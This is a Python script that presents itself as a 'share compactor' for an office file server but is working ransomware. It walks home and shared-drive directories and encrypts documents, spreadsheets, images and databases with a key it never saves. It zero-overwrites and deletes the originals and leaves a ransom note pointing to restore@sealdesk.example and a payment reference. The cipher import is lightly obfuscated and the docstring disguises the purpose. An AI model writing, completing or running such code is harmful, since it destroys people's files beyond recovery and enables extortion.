#!/usr/bin/env python3
"""Share compactor for the office file server: packs documents on the
shared drive into sealed containers to save space and keep them private."""
import argparse
import asyncio
import importlib
import logging
import os
import secrets
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("compactor")

TARGET_SUFFIXES = {".xlsx", ".docx", ".pdf", ".csv", ".odt", ".ods", ".jpg", ".db", ".sqlite"}
SEAL_EXT = ".nrseal"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")


@dataclass
class Job:
    roots: list
    ticket: str = field(default_factory=lambda: secrets.token_hex(6))
    sealed: int = 0
    skipped: int = 0

    def __post_init__(self):
        kind = _cipher_factory()
        self._engine = kind(kind.generate_key())

    @property
    def engine(self):
        return self._engine


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fn in filenames:
                p = Path(dirpath) / fn
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p


def _seal_one(engine, path):
    data = path.read_bytes()
    sealed = engine.encrypt(data)
    out = path.with_name(path.name + SEAL_EXT)
    out.write_bytes(sealed)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return out


async def seal(job, path, sem):
    async with sem:
        loop = asyncio.get_running_loop()
        try:
            await loop.run_in_executor(None, _seal_one, job.engine, path)
            job.sealed += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            job.skipped += 1


def drop_note(job):
    text = (
        "Your files on this share were sealed.\n"
        f"Ticket: {job.ticket}\n"
        "To restore them contact restore@sealdesk.example with your ticket\n"
        "and the payment reference you will be given.\n"
    )
    for root in job.roots:
        try:
            (Path(root) / NOTE_NAME).write_text(text)
        except OSError:
            pass


async def run(job, parallel):
    sem = asyncio.Semaphore(parallel)
    tasks = [seal(job, p, sem) for p in candidates(job.roots)]
    await asyncio.gather(*tasks)
    drop_note(job)


def default_roots():
    env = os.environ.get("COMPACT_ROOTS")
    if env:
        return env.split(os.pathsep)
    return [str(Path.home()), "/srv/fleet", "/mnt/office_share"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*")
    ap.add_argument("--parallel", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)
    job = Job(roots=args.roots or default_roots())
    asyncio.run(run(job, args.parallel))
    log.info("ticket %s: %d sealed, %d skipped", job.ticket, job.sealed, job.skipped)


if __name__ == "__main__":
    main()
